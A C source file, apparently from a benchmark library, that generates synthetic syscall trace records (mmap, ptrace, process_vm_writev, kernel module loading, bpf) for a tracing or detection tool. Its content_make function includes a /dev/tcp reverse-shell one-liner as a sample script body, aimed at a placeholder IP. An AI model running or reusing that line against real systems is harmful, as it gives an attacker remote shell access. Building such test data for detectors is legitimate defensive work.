/* SPDX-License-Identifier: BSD-2-Clause */
/* From ops to records: the common part, and those about descriptors, memory and other processes. */
#include "tests/bench/lib_emit.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "format/tape.h"

int ring_add(struct ring *r, const void *record, size_t length)
{
	size_t need = 8 + ((length + 7) & ~(size_t)7);

	if (r->used + need > r->max) {
		size_t max = 2 * r->max + need + (64 << 10);
		uint8_t *bytes = realloc(r->bytes, max);

		if (!bytes)
			return -ENOMEM;
		r->bytes = bytes;
		r->max = max;
	}
	*(uint64_t *)(void *)(r->bytes + r->used) = length;
	memcpy(r->bytes + r->used + 8, record, length);
	r->used += need;
	return 0;
}

void *emit_begin(struct machine *m, const struct task *t, const struct cpu *c, unsigned type,
		 unsigned number, int64_t result)
{
	struct ev_header *h = &m->record.header;
	void *fixed = reel_record_begin(&m->record, m->types[type]);

	h->ts = c->now;
	h->ret = result;
	h->pid = t->proc->pid;
	h->tid = t->tid;
	h->cpu = (uint16_t)(c - m->cpus);
	h->call = EV_CALL(EV_ABI_NATIVE, number);
	return fixed;
}

static void note_step(struct machine *m, const struct task *t, const struct ev_header *h)
{
	if (m->n_steps == m->max_steps) {
		uint32_t max = 2 * m->max_steps + 64;
		struct truth_step *steps = realloc(m->steps, max * sizeof(*steps));

		if (!steps) {
			m->err = -ENOMEM;
			return;
		}
		m->steps = steps;
		m->max_steps = max;
	}
	m->steps[m->n_steps++] = (struct truth_step){
		.plant = t->proc->plant,
		.cpu = h->cpu,
		.type = h->type,
		.seq = h->seq,
		.ts = h->ts,
		.pid = h->pid,
	};
}

static void add_state(struct machine *m, size_t length)
{
	if (m->n_state == m->max_state) {
		uint32_t max = 2 * m->max_state + 256;
		struct state_entry *order = realloc(m->state_order, max * sizeof(*order));

		if (!order) {
			m->err = -ENOMEM;
			return;
		}
		m->state_order = order;
		m->max_state = max;
	}
	m->state_order[m->n_state++] = (struct state_entry){
		m->record.header.ts,
		(uint32_t)m->state.used,
		(uint32_t)length,
	};
	if (ring_add(&m->state, &m->record.header, length))
		m->err = -ENOMEM;
}

/* The ring has room again: what was dropped goes before the next event. */
static void add_lost(struct machine *m, struct cpu *c)
{
	struct {
		struct ev_header header;
		struct ev_lost lost;
	} record;

	for (unsigned class = 1; class < 16; class ++) {
		if (!c->dropped[class])
			continue;
		memset(&record, 0, sizeof(record));
		record.header = (struct ev_header){
			.ts = c->now,
			.seq = c->seq++,
			.cpu = (uint16_t)(c - m->cpus),
			.length = sizeof(record.lost),
			.type = EV_lost,
		};
		record.lost.first = c->dropped_first;
		record.lost.last = c->dropped_last;
		record.lost.count = c->dropped[class];
		record.lost.lost_cpu = record.header.cpu;
		record.lost.lost_class = (uint8_t) class;
		if (ring_add(&c->ring, &record, sizeof(record)))
			m->err = -ENOMEM;
		c->lost[class] += c->dropped[class];
		m->lost += c->dropped[class];
		m->by_type[EV_lost]++;
		c->kept[EV_CLASS_tape]++;
		c->dropped[class] = 0;
	}
	c->dropped_first = 0;
}

void emit_end(struct machine *m, struct task *t, struct cpu *c, unsigned op_flags)
{
	struct ev_header *h = &m->record.header;
	const struct reel_type *type = m->record.type;
	size_t length = reel_record_end(&m->record);

	if (c->dropping && type->stream == TAPE_EVENTS && !(op_flags & OPF_STEP)) {
		c->seq++;
		c->dropped[type->class_id]++;
		if (!c->dropped_first)
			c->dropped_first = c->now;
		c->dropped_last = c->now;
		c->dropping--;
		return;
	}
	if (c->dropped_first && !c->dropping && type->stream == TAPE_EVENTS)
		add_lost(m, c);
	h->seq = c->seq++;
	m->n_events++;
	m->by_type[h->type]++;
	m->by_work[t->proc->work]++;
	c->kept[type->class_id]++;
	if (op_flags & OPF_STEP)
		note_step(m, t, h);
	if (type->stream == TAPE_STATE)
		add_state(m, length);
	else if (ring_add(&c->ring, h, length))
		m->err = -ENOMEM;
}

void emit_path(struct machine *m, uint32_t file)
{
	const struct file *f = &m->tree.files[file];

	reel_record_string(&m->record, m->tree.text + f->path, f->path_len);
}

void emit_path_and_arg(struct machine *m, uint32_t file)
{
	const struct file *f = &m->tree.files[file];

	reel_record_string(&m->record, m->tree.text + f->path, f->path_len);
	reel_record_string(&m->record, m->tree.text + f->arg, f->arg_len);
}

void content_make(struct machine *m, enum content kind, char bytes[64])
{
	static const char forms[][65] = {
		[CONTENT_LOG] = "Nov 21 09:11:##.###### host daemon[#####]: status ##### job ####",
		[CONTENT_ELF] =
			"\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\1\0>\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
			"\0\0\0\0##\0\0\0\0\0\0\0\0\0\0@\0\0\0\0\0@\0#\0#",
		[CONTENT_ASM] =
			"\t.file\t\"value_##.c\"\n\t.text\n.Ltext0:\n\t.file 0 \"/home/dev/src/s",
		[CONTENT_HTTP] =
			"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: #####\r\nDate: Thu",
		[CONTENT_SCRIPT] =
			"#!/bin/sh\nexec 3<>/dev/tcp/203.0.113.#/4444; sh <&3 >&3 2>&3 ###\n",
	};

	if (kind == CONTENT_PACKED) {
		for (unsigned i = 0; i < 8; i++)
			((uint64_t *)(void *)bytes)[i] = rng_next(&m->rng);
		bytes[0] = 0x1f;
		return;
	}
	memcpy(bytes, forms[kind], 64);
	for (unsigned i = 0; i < 64; i++)
		if (bytes[i] == '#' && (i || kind != CONTENT_SCRIPT))
			bytes[i] = (char)('0' + rng_below(&m->rng, 10));
}

static void emit_mmap(struct machine *m, struct task *t, const struct op *op, struct cpu *c)
{
	const struct file *f = &m->tree.files[op->file];
	uint64_t length = (uint64_t)f->size * 7 / 10 & ~0xfffull;
	struct ev_mmap *e;

	t->proc->map_top -= (f->size + 0x2000ull) & ~0xfffull;
	e = emit_begin(m, t, c, EV_mmap, NR_mmap, (int64_t)t->proc->map_top);
	e->length = length + 0x1000;
	e->offset = (f->size / 10 & ~0xfffull) + 0x1000;
	e->inode = f->inode;
	e->dev = f->dev;
	e->fd = op->fd;
	e->prot = 5;
	e->flags = 0x812;
	e->path_from = 2;
	emit_path(m, op->file);
	emit_end(m, t, c, op->flags);
}

static void emit_fd_op(struct machine *m, struct task *t, const struct op *op, struct cpu *c)
{
	const struct file *f = &m->tree.files[op->file];

	if (op->code == OP_DUP) {
		struct ev_dup *e = emit_begin(m, t, c, EV_dup, NR_dup2, (int64_t)op->a);

		e->inode = f->inode;
		e->dev = f->dev;
		e->fd = op->fd;
	} else {
		struct ev_pipe *e = emit_begin(m, t, c, EV_pipe, NR_pipe2, 0);

		e->inode = f->inode;
		e->dev = f->dev;
		e->fd = op->fd;
		e->fd2 = (int32_t)op->a;
		e->flags = 02000000;
	}
	emit_end(m, t, c, op->flags);
}

static void emit_other_process(struct machine *m, struct task *t, const struct op *op,
			       struct cpu *c)
{
	switch (op->code) {
	case OP_KILL: {
		struct ev_kill *e = emit_begin(m, t, c, EV_kill, NR_kill, op->ret);

		e->target = (int32_t)op->a;
		e->signal = (int32_t)op->b;
		e->fd = -1;
		break;
	}
	case OP_SIGNAL: {
		struct ev_signal *e = emit_begin(m, t, c, EV_signal, 0, 0);

		m->record.header.call = 0;
		e->signal = (uint16_t)op->b;
		e->sender = op->a;
		break;
	}
	case OP_PTRACE: {
		struct ev_ptrace *e = emit_begin(m, t, c, EV_ptrace, NR_ptrace, op->ret);

		e->target = op->a;
		e->request = (uint32_t)op->b;
		break;
	}
	default: {
		struct ev_process_vm_writev *e =
			emit_begin(m, t, c, EV_process_vm_writev, NR_process_vm_writev, op->ret);

		e->addr = 0x7ffc00000000 | (rng_next(&m->rng) & 0xffffff8);
		e->count = (uint64_t)op->ret;
		e->target = op->a;
	}
	}
	emit_end(m, t, c, op->flags);
}

static void emit_kernel(struct machine *m, struct task *t, const struct op *op, struct cpu *c)
{
	const struct file *f = &m->tree.files[op->file];

	switch (op->code) {
	case OP_FINIT_MODULE: {
		struct ev_finit_module *e =
			emit_begin(m, t, c, EV_finit_module, NR_finit_module, 0);
		const char *path = m->tree.text + f->path;
		unsigned begin = f->path_len;

		while (begin && path[begin - 1] != '/')
			begin--;
		e->inode = f->inode;
		e->dev = f->dev;
		e->fd = op->fd;
		e->path_from = 2;
		emit_path_and_arg(m, op->file);
		reel_record_string(&m->record, path + begin, f->path_len - begin - strlen(".ko"));
		break;
	}
	case OP_BPF: {
		struct ev_bpf *e = emit_begin(m, t, c, EV_bpf, NR_bpf, op->ret);

		e->cmd = op->a;
		e->prog_type = (uint32_t)op->b;
		e->fd = op->fd;
		e->size = 128;
		break;
	}
	case OP_CLOCK_SETTIME: {
		struct ev_clock_settime *e =
			emit_begin(m, t, c, EV_clock_settime, NR_clock_settime, 0);

		e->time = (int64_t)op->b;
		break;
	}
	case OP_MEMFD: {
		struct ev_memfd_create *e =
			emit_begin(m, t, c, EV_memfd_create, NR_memfd_create, op->fd);

		e->inode = f->inode;
		e->dev = f->dev;
		e->flags = 1;
		/* Path "/memfd:NAME (deleted)". */
		reel_record_string(&m->record, m->tree.text + f->path + strlen("/memfd:"),
				   f->path_len - strlen("/memfd: (deleted)"));
		break;
	}
	default: {
		struct ev_mprotect *e = emit_begin(m, t, c, EV_mprotect, NR_mprotect, 0);

		e->addr = t->proc->map_top - 0x40000;
		e->length = 0x10000;
		e->prot = 5;
		e->old_prot = 3;
	}
	}
	emit_end(m, t, c, op->flags);
}

void emit_op(struct machine *m, struct task *t, const struct op *op, struct cpu *c)
{
	if (emit_file(m, t, op, c) || emit_process(m, t, op, c) || emit_net(m, t, op, c))
		return;
	switch (op->code) {
	case OP_MMAP:
		emit_mmap(m, t, op, c);
		break;
	case OP_DUP:
	case OP_PIPE:
		emit_fd_op(m, t, op, c);
		break;
	case OP_KILL:
	case OP_SIGNAL:
	case OP_PTRACE:
	case OP_VM_WRITEV:
		emit_other_process(m, t, op, c);
		break;
	default:
		emit_kernel(m, t, op, c);
	}
}
